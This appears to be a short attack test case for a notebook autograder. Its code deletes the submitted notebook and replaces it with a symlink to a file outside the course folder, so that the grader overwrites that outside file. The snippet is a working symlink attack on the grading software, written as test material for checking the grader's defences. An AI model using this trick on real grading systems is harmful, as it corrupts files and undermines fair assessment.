# /// attack
# tries = "Replaces its own notebook by a link, so that the grader writes to where the link leads."
# points = 0
# shows = ["changed"]
# ///
# %% before count
import os
from pathlib import Path

for folder in (Path.cwd(), Path(bait["course"], "autograded", bait["me"], bait["slug"])):
    if folder.is_dir():
        notebook = folder / f"{bait['slug']}.ipynb"
        notebook.unlink(missing_ok=True)
        notebook.symlink_to(f"{bait['outside']}/diary.txt")
